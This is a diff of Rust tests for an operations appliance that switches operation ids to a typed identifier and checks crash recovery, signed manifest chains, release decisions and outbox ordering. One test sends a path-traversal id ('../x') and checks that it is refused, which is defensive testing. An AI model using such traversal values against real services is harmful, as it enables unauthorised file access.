     let server = tokio::spawn(serve(fx.control.clone(), bind(&socket).unwrap()));
 
     let list = call_value(&socket, &Request::Operations).await.unwrap();
-    assert_eq!(list[0]["id"], "op_1");
+    assert_eq!(list[0]["id"], op_id(1).to_string());
     assert_eq!(list[0]["state"], "executed");
     assert_eq!(list[0]["release"], serde_json::Value::Null);
-    let (bytes, reply) = read_output(&socket, "op_1").await.unwrap();
-    assert_eq!(bytes, fx.control.ops.open_output("op_1").unwrap());
+    let (bytes, reply) = read_output(&socket, op_id(1)).await.unwrap();
+    assert_eq!(bytes, fx.control.ops.open_output(op_id(1)).unwrap());
     assert_eq!(reply["output_size"], bytes.len());
     assert_eq!(fx.audited("operation.output_read").len(), 1);
-    let manifest = call_value(&socket, &Request::Manifest { id: "op_1".into() }).await.unwrap();
-    assert_eq!(manifest["request_id"], "op_1");
-    assert!(call_value(&socket, &Request::Manifest { id: "../x".into() }).await.is_err());
+    let manifest = call_value(&socket, &Request::Manifest { id: op_id(1) }).await.unwrap();
+    assert_eq!(manifest["request_id"], op_id(1).to_string());
+    // An id that is not an operation id is refused before it reaches a path.
+    let err = raw_call(&socket, r#"{"cmd":"manifest","id":"../x"}"#).await;
+    assert!(err.contains("malformed request"), "{err}");
 
     let envelope: serde_json::Value =
-        serde_json::from_slice(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {})).unwrap();
+        serde_json::from_slice(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
     let released = call_value(&socket, &Request::Release { envelope }).await.unwrap();
     assert_eq!(released["release"], "release");
 
@@ -852,18 +881,18 @@ async fn admin_socket_serves_operations_output_release_and_pre_approvals() {
 #[tokio::test]
 async fn an_execution_signed_just_before_a_stop_is_completed_without_a_chain_gap() {
     let mut fx = Fx::new(ALL_PHASES);
-    let stmt = fx.simple("op_1", "api");
+    let stmt = fx.simple(op_id(1), "api");
     let r = fx.run(&stmt, &fx.grant(&stmt)).await;
     // The stop came after the execution was signed and in the manifest, before it was recorded.
     fx.control
         .ops
-        .update_record("op_1", |r| {
+        .update_record(op_id(1), |r| {
             r.state = OpState::Running;
             r.result = None;
             Ok(())
         })
         .unwrap();
-    fx.control.ops.acknowledge("op_1", false).unwrap();
+    fx.control.ops.acknowledge(op_id(1), false).unwrap();
     let head = fx.control.ops.chain_head().unwrap();
     fx.restart();
     assert_eq!(fx.exec.recover_interrupted().unwrap(), 1);
@@ -874,7 +903,7 @@ async fn an_execution_signed_just_before_a_stop_is_completed_without_a_chain_gap
 
 /// Starts an operation whose script sleeps a little, then makes the named writes fail once
 /// each while it runs (the decision's writes are done by then).
-async fn run_with_faults(fx: &Fx, id: &str, faults: &[&'static str]) -> ResultMsg {
+async fn run_with_faults(fx: &Fx, id: OperationId, faults: &[&'static str]) -> ResultMsg {
     let script = "sleep 0.2\necho done\n";
     let stmt = fx.statement(id, MANIFEST, script, vars("api"));
     let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
@@ -889,17 +918,17 @@ async fn run_with_faults(fx: &Fx, id: &str, faults: &[&'static str]) -> ResultMs
 async fn a_failure_to_record_a_run_is_recovered_at_once_and_its_result_queued() {
     let fx = Fx::new(ALL_PHASES);
     // The chain head cannot be written once (disk full) after the execution was signed.
-    let r = run_with_faults(&fx, "op_f", &["chain"]).await;
+    let r = run_with_faults(&fx, op_id(21), &["chain"]).await;
     assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
     let e = fx.execution(&r);
     assert_eq!((e.status, e.exit_code, e.sequence), (ExecutionStatus::Completed, Some(0), 1));
-    assert_eq!(fx.control.ops.open_output("op_f").unwrap(), b"done\n");
-    assert_eq!(fx.control.ops.record("op_f").unwrap().unwrap().state, OpState::Executed);
+    assert_eq!(fx.control.ops.open_output(op_id(21)).unwrap(), b"done\n");
+    assert_eq!(fx.control.ops.record(op_id(21)).unwrap().unwrap().state, OpState::Executed);
     assert_eq!(fx.control.ops.chain_head().unwrap().sequence, 1);
     assert_eq!(fx.control.ops.pending().unwrap().len(), 1, "the result is queued");
     assert_eq!(fx.audited("operation.error").len(), 1);
     // The chain goes on from it.
-    let stmt = fx.simple("op_g", "api");
+    let stmt = fx.simple(op_id(23), "api");
     let e2 = fx.execution(&fx.run(&stmt, &fx.grant(&stmt)).await);
     assert_eq!((e2.sequence, e2.previous_manifest_sha256), (2, Some(e.manifest_sha256())));
 }
@@ -908,17 +937,17 @@ async fn a_failure_to_record_a_run_is_recovered_at_once_and_its_result_queued() 
 async fn a_run_left_unrecorded_is_finished_by_the_next_instruction_for_it() {
     let fx = Fx::new(ALL_PHASES);
     // Recording fails, and so does the immediate second try.
-    let r = run_with_faults(&fx, "op_u", &["result", "result"]).await;
+    let r = run_with_faults(&fx, op_id(36), &["result", "result"]).await;
     assert_ne!(r.outcome, Outcome::Executed);
-    assert_eq!(fx.control.ops.record("op_u").unwrap().unwrap().state, OpState::Running);
+    assert_eq!(fx.control.ops.record(op_id(36)).unwrap().unwrap().state, OpState::Running);
     assert!(fx.control.ops.pending().unwrap().is_empty());
     // The control plane asks again (it has no result): it is finished from the signed manifest.
-    let stmt = fx.statement("op_u", MANIFEST, "sleep 0.2\necho done\n", vars("api"));
+    let stmt = fx.statement(op_id(36), MANIFEST, "sleep 0.2\necho done\n", vars("api"));
     let again = fx.send(fx.instruction(&stmt, MANIFEST, "sleep 0.2\necho done\n", "")).await;
     assert_eq!(again.outcome, Outcome::Executed, "{again:?}");
     assert_eq!(fx.execution(&again).sequence, 1, "signed once");
     assert_eq!(fx.control.ops.chain_head().unwrap().sequence, 1);
-    assert_eq!(fx.control.ops.record("op_u").unwrap().unwrap().state, OpState::Executed);
+    assert_eq!(fx.control.ops.record(op_id(36)).unwrap().unwrap().state, OpState::Executed);
     assert_eq!(fx.control.ops.pending().unwrap().len(), 1);
 }
 
@@ -926,7 +955,7 @@ async fn a_run_left_unrecorded_is_finished_by_the_next_instruction_for_it() {
 async fn a_failed_manifest_write_never_leaves_the_chain_head_naming_a_lost_statement() {
     let fx = Fx::new(ALL_PHASES);
     // The manifest with the signed execution cannot be written once.
-    let r = run_with_faults(&fx, "op_m", &["manifest"]).await;
+    let r = run_with_faults(&fx, op_id(27), &["manifest"]).await;
     assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
     // The statement that could not be stored was never named by the head: the one signed
     // again takes its place, so the chain has no gap.
@@ -934,21 +963,21 @@ async fn a_failed_manifest_write_never_leaves_the_chain_head_naming_a_lost_state
     assert_eq!((e.sequence, e.previous_manifest_sha256.as_deref()), (1, None));
     let head = fx.control.ops.chain_head().unwrap();
     assert_eq!((head.sequence, head.manifest_sha256), (1, Some(e.manifest_sha256())));
-    let manifest = fx.control.ops.manifest("op_m").unwrap().unwrap();
+    let manifest = fx.control.ops.manifest(op_id(27)).unwrap().unwrap();
     assert_eq!(manifest.execution.unwrap().to_json(), r.execution_envelope_json);
 }
 
 #[tokio::test]
 async fn a_statement_stored_before_its_chain_head_is_taken_up_at_recovery() {
     let mut fx = Fx::new(ALL_PHASES);
-    let stmt = fx.simple("op_1", "api");
+    let stmt = fx.simple(op_id(1), "api");
     let r = fx.run(&stmt, &fx.grant(&stmt)).await;
     let e = fx.execution(&r);
     // The stop came after the signed execution was stored, before the head was written.
     std::fs::remove_file(fx.dir.path().join(crate::ops_store::CHAIN_FILE)).unwrap();
     fx.control
         .ops
-        .update_record("op_1", |r| {
+        .update_record(op_id(1), |r| {
             r.state = OpState::Running;
             r.result = None;
             Ok(())
@@ -959,7 +988,7 @@ async fn a_statement_stored_before_its_chain_head_is_taken_up_at_recovery() {
     let head = fx.control.ops.chain_head().unwrap();
     assert_eq!((head.sequence, head.manifest_sha256), (1, Some(e.manifest_sha256())));
     assert_eq!(fx.run(&stmt, "").await, r);
-    let stmt2 = fx.simple("op_2", "api");
+    let stmt2 = fx.simple(op_id(2), "api");
     let e2 = fx.execution(&fx.run(&stmt2, &fx.grant(&stmt2)).await);
     assert_eq!((e2.sequence, e2.previous_manifest_sha256), (2, Some(e.manifest_sha256())));
 }
@@ -968,21 +997,21 @@ async fn a_statement_stored_before_its_chain_head_is_taken_up_at_recovery() {
 async fn a_script_left_running_by_a_crash_is_killed_at_recovery() {
     let mut fx = Fx::new(ALL_PHASES);
     let script = "sleep 60 &\nsleep 60\n";
-    let stmt = fx.statement("op_c", MANIFEST, script, vars("api"));
+    let stmt = fx.statement(op_id(15), MANIFEST, script, vars("api"));
     let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
         Handled::Started(h) => h,
         other => panic!("{other:?}"),
     };
     let mut pgid = None;
     for _ in 0..100 {
-        pgid = fx.control.ops.record("op_c").unwrap().unwrap().pgid;
+        pgid = fx.control.ops.record(op_id(15)).unwrap().unwrap().pgid;
         if pgid.is_some_and(|g| live_members(g) >= 2) {
             break;
         }
         tokio::time::sleep(std::time::Duration::from_millis(50)).await;
     }
     let pgid = pgid.expect("the process group is recorded");
-    assert_eq!(fx.control.running_group("op_c"), Some(pgid));
+    assert_eq!(fx.control.running_group(op_id(15)), Some(pgid));
     // The appliance crashes: nothing of it runs on, nothing kills the script.
     handle.abort();
     let _ = handle.await;
@@ -996,18 +1025,18 @@ async fn a_script_left_running_by_a_crash_is_killed_at_recovery() {
         tokio::time::sleep(std::time::Duration::from_millis(20)).await;
     }
     assert_eq!(live_members(pgid), 0, "the orphaned script and its children are gone");
-    assert_eq!(fx.control.ops.record("op_c").unwrap().unwrap().state, OpState::Cancelled);
+    assert_eq!(fx.control.ops.record(op_id(15)).unwrap().unwrap().state, OpState::Cancelled);
 }
 
 #[tokio::test]
 async fn two_decisions_about_one_output_at_once_admit_exactly_one() {
     let fx = Fx::new(ALL_PHASES);
     for n in 0..5 {
-        let id = format!("op_race{n}");
-        let stmt = fx.simple(&id, "api");
+        let id = op_id(100 + n);
+        let stmt = fx.simple(id, "api");
         fx.run(&stmt, &fx.grant(&stmt)).await;
-        let release = release_envelope(&fx, &id, ReleaseDecision::Release, |_| {});
-        let withhold = release_envelope(&fx, &id, ReleaseDecision::Withhold, |_| {});
+        let release = release_envelope(&fx, id, ReleaseDecision::Release, |_| {});
+        let withhold = release_envelope(&fx, id, ReleaseDecision::Withhold, |_| {});
         let barrier = Arc::new(std::sync::Barrier::new(2));
         let calls: Vec<_> = [release, withhold]
             .into_iter()
@@ -1025,10 +1054,10 @@ async fn two_decisions_about_one_output_at_once_admit_exactly_one() {
         let lost = outcomes.iter().find_map(|o| o.as_ref().err()).unwrap();
         assert!(lost.to_string().contains("already decided"), "{lost}");
         // What is recorded, in the manifest and queued is the one decision that held.
-        let record = fx.control.ops.record(&id).unwrap().unwrap();
+        let record = fx.control.ops.record(id).unwrap().unwrap();
         let decided = if won[0]["release"] == "release" { ReleaseDecision::Release } else { ReleaseDecision::Withhold };
         assert_eq!(record.release, Some(decided));
-        let manifest = fx.control.ops.manifest(&id).unwrap().unwrap();
+        let manifest = fx.control.ops.manifest(id).unwrap().unwrap();
         let signed: ReleaseStatement = serde_json::from_slice(&manifest.release.unwrap().payload).unwrap();
         assert_eq!(signed.decision, decided);
     }
@@ -1038,27 +1067,27 @@ async fn two_decisions_about_one_output_at_once_admit_exactly_one() {
 async fn a_release_needs_as_many_customer_signatures_as_the_policy_asks() {
     let fx = Fx::new(&format!("{ALL_PHASES}approvals_required = 2\n"));
     assert_eq!(fx.control.threshold(), 2);
-    let stmt = fx.simple("op_2of2", "api");
+    let stmt = fx.simple(op_id(10), "api");
     let grant = Envelope::from_json(fx.grant(&stmt).as_bytes()).unwrap().sign(&customer(2)).to_json();
     assert_eq!(fx.run(&stmt, &grant).await.outcome, Outcome::Executed);
     // One signature is not enough.
-    let one = release_envelope(&fx, "op_2of2", ReleaseDecision::Release, |_| {});
+    let one = release_envelope(&fx, op_id(10), ReleaseDecision::Release, |_| {});
     let err = fx.control.release(&one).unwrap_err();
     assert!(err.to_string().contains("does not verify"), "{err}");
-    assert_eq!(fx.control.ops.record("op_2of2").unwrap().unwrap().release, None);
+    assert_eq!(fx.control.ops.record(op_id(10)).unwrap().unwrap().release, None);
     // Two distinct pinned keys (what `airlock customer release --key a --key b` signs) are.
     let two = Envelope::from_json(&one).unwrap().sign(&customer(2)).to_json().into_bytes();
     let (summary, _) = fx.control.release(&two).unwrap();
     assert_eq!(summary["release"], "release");
 }
 
-fn kinds(msgs: &[ApplianceMessage]) -> Vec<String> {
-    use airlock_proto::gateway::appliance_message::Body;
+fn kinds(msgs: &[ApplianceMessage]) -> Vec<(&'static str, OperationId)> {
+    use appliance_message::Body;
     msgs.iter()
         .map(|m| match &m.body {
-            Some(Body::OperationResult(r)) => format!("result:{}", r.request_id),
-            Some(Body::OutputRelease(r)) => format!("release:{}", r.request_id),
-            other => format!("{other:?}"),
+            Some(Body::OperationResult(r)) => ("result", r.request_id.parse().unwrap()),
+            Some(Body::OutputRelease(r)) => ("release", r.request_id.parse().unwrap()),
+            other => panic!("{other:?}"),
         })
         .collect()
 }
@@ -1068,11 +1097,11 @@ async fn at_reconnect_results_go_before_releases_and_a_local_release_does_not_ov
     use crate::admin::Request;
     let fx = Fx::new(ALL_PHASES);
     // Disconnected: three results and one release wait in the outbox.
-    for id in ["op_1", "op_2", "op_3"] {
+    for id in [op_id(1), op_id(2), op_id(3)] {
         let stmt = fx.simple(id, "api");
         fx.run(&stmt, &fx.grant(&stmt)).await;
     }
-    fx.control.release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {})).unwrap();
+    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
     // The stream comes up; it takes one message at a time, so the resend is still going when
     // the customer releases the output of the last operation on this host.
     let (tx, mut rx) = tokio::sync::mpsc::channel(1);
@@ -1080,7 +1109,7 @@ async fn at_reconnect_results_go_before_releases_and_a_local_release_does_not_ov
     let resend = tokio::spawn(async move { control.connected(tx).await });
     tokio::time::sleep(std::time::Duration::from_millis(100)).await;
     let envelope: serde_json::Value =
-        serde_json::from_slice(&release_envelope(&fx, "op_3", ReleaseDecision::Release, |_| {})).unwrap();
+        serde_json::from_slice(&release_envelope(&fx, op_id(3), ReleaseDecision::Release, |_| {})).unwrap();
     let control = fx.control.clone();
     let local = tokio::spawn(async move { control.handle(Request::Release { envelope }).await });
     tokio::time::sleep(std::time::Duration::from_millis(100)).await;
@@ -1091,74 +1120,84 @@ async fn at_reconnect_results_go_before_releases_and_a_local_release_does_not_ov
     }
     resend.await.unwrap();
     local.await.unwrap().unwrap();
-    assert_eq!(kinds(&got), ["result:op_1", "result:op_2", "result:op_3", "release:op_1", "release:op_3"]);
+    assert_eq!(
+        kinds(&got),
+        [
+            ("result", op_id(1)),
+            ("result", op_id(2)),
+            ("result", op_id(3)),
+            ("release", op_id(1)),
+            ("release", op_id(3))
+        ]
+    );
 }
 
 #[tokio::test]
 async fn a_release_the_control_plane_cannot_take_yet_stays_in_the_outbox() {
     let fx = Fx::new(ALL_PHASES);
-    let stmt = fx.simple("op_1", "api");
+    let stmt = fx.simple(op_id(1), "api");
     fx.run(&stmt, &fx.grant(&stmt)).await;
-    fx.control.release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {})).unwrap();
-    let _ = fx.control.on_ack(&ack("op_1", OperationAckKind::Release, "no execution recorded for op_1 yet"));
-    assert_eq!(kinds(&fx.control.ops.pending().unwrap()), ["result:op_1", "release:op_1"]);
-    let _ = fx.control.on_ack(&ack("op_1", OperationAckKind::Result, ""));
-    let _ = fx.control.on_ack(&ack("op_1", OperationAckKind::Release, ""));
+    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
+    let _ = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Release, "no execution recorded for op_1 yet"));
+    assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("result", op_id(1)), ("release", op_id(1))]);
+    let _ = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Result, ""));
+    let _ = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Release, ""));
     assert!(fx.control.ops.pending().unwrap().is_empty());
 }
 
 #[tokio::test]
 async fn a_release_waiting_for_its_result_goes_as_soon_as_the_result_is_acknowledged() {
     let fx = Fx::new(ALL_PHASES);
-    for id in ["op_1", "op_2"] {
+    for id in [op_id(1), op_id(2)] {
         let stmt = fx.simple(id, "api");
         fx.run(&stmt, &fx.grant(&stmt)).await;
     }
-    fx.control.release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {})).unwrap();
+    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
     // op_2 has no release waiting: nothing follows its result.
-    assert!(fx.control.on_ack(&ack("op_2", OperationAckKind::Result, "")).is_none());
+    assert!(fx.control.on_ack(&ack(op_id(2), OperationAckKind::Result, "")).is_none());
     // op_1's release was sent before its result was stored (the control plane does not answer
     // such a release): storing the result sends it at once, not at the next reconnect.
-    let next = fx.control.on_ack(&ack("op_1", OperationAckKind::Result, "")).expect("the waiting release");
-    assert_eq!(kinds(std::slice::from_ref(&next)), ["release:op_1"]);
+    let next = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Result, "")).expect("the waiting release");
+    assert_eq!(kinds(std::slice::from_ref(&next)), [("release", op_id(1))]);
     // It goes on the current stream.
     let (tx, mut rx) = tokio::sync::mpsc::channel(4);
     fx.control.connected(tx).await;
-    assert_eq!(kinds(&[rx.recv().await.unwrap()]), ["release:op_1"]);
+    assert_eq!(kinds(&[rx.recv().await.unwrap()]), [("release", op_id(1))]);
     fx.control.send(next).await;
-    assert_eq!(kinds(&[rx.recv().await.unwrap()]), ["release:op_1"]);
+    assert_eq!(kinds(&[rx.recv().await.unwrap()]), [("release", op_id(1))]);
     // Acknowledged: gone, and a second result ack sends nothing.
-    assert!(fx.control.on_ack(&ack("op_1", OperationAckKind::Release, "")).is_none());
-    assert!(fx.control.on_ack(&ack("op_1", OperationAckKind::Result, "")).is_none());
+    assert!(fx.control.on_ack(&ack(op_id(1), OperationAckKind::Release, "")).is_none());
+    assert!(fx.control.on_ack(&ack(op_id(1), OperationAckKind::Result, "")).is_none());
     assert!(fx.control.ops.pending().unwrap().is_empty());
 }
 
 #[tokio::test]
 async fn a_release_whose_result_is_refused_for_good_is_parked_not_resent() {
     let fx = Fx::new(ALL_PHASES);
-    for id in ["op_1", "op_2"] {
+    for id in [op_id(1), op_id(2)] {
         let stmt = fx.simple(id, "api");
         fx.run(&stmt, &fx.grant(&stmt)).await;
     }
-    fx.control.release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {})).unwrap();
-    let refused = |id: &str| ack(id, OperationAckKind::Result, "the execution is not signed by this appliance");
-    assert!(fx.control.on_ack(&refused("op_1")).is_none());
+    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
+    let refused = |id: OperationId| ack(id, OperationAckKind::Result, "the execution is not signed by this appliance");
+    assert!(fx.control.on_ack(&refused(op_id(1))).is_none());
     // Neither the result nor its release is resent at the next reconnect ...
-    assert_eq!(kinds(&fx.control.ops.pending().unwrap()), ["result:op_2"]);
+    assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("result", op_id(2))]);
     // ... but both are kept on disk, and the parking is audited.
-    assert_eq!(fx.control.ops.parked_releases().unwrap(), ["op_1"]);
-    assert!(fx.dir.path().join("parked/op_1.result.json").exists());
+    assert_eq!(fx.control.ops.parked_releases().unwrap(), [op_id(1)]);
+    assert!(fx.dir.path().join(format!("parked/{}.result.json", op_id(1))).exists());
     let parked = fx.audited("operation.release_parked");
     assert_eq!(parked.len(), 1);
-    assert_eq!(parked[0]["detail"]["request_id"], "op_1");
+    assert_eq!(parked[0]["detail"]["request_id"], op_id(1).to_string());
     // A release decided after the result was refused is parked at once and not sent.
-    assert!(fx.control.on_ack(&refused("op_2")).is_none());
+    assert!(fx.control.on_ack(&refused(op_id(2))).is_none());
     assert_eq!(fx.audited("operation.release_parked").len(), 1);
-    let (summary, msg) = fx.control.release(&release_envelope(&fx, "op_2", ReleaseDecision::Withhold, |_| {})).unwrap();
+    let (summary, msg) =
+        fx.control.release(&release_envelope(&fx, op_id(2), ReleaseDecision::Withhold, |_| {})).unwrap();
     assert_eq!(summary["release"], "withhold");
     assert!(msg.is_none());
     assert!(fx.control.ops.pending().unwrap().is_empty());
-    assert_eq!(fx.control.ops.parked_releases().unwrap(), ["op_1", "op_2"]);
+    assert_eq!(fx.control.ops.parked_releases().unwrap(), [op_id(1), op_id(2)]);
     assert_eq!(fx.audited("operation.release_parked").len(), 2);
 }
 
@@ -1166,12 +1205,12 @@ async fn a_release_whose_result_is_refused_for_good_is_parked_not_resent() {
 async fn a_policy_relayed_by_the_control_plane_is_applied_like_one_loaded_on_the_host() {
     let fx = Fx::new(ALL_PHASES);
     let script = "sleep 60\n";
-    let stmt = fx.statement("op_r", MANIFEST, script, vars("api"));
+    let stmt = fx.statement(op_id(32), MANIFEST, script, vars("api"));
     let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
         Handled::Started(h) => h,
         other => panic!("{other:?}"),
     };
-    while fx.control.running_group("op_r").is_none() {
+    while fx.control.running_group(op_id(32)).is_none() {
         tokio::time::sleep(std::time::Duration::from_millis(20)).await;
     }
     let observe_only =
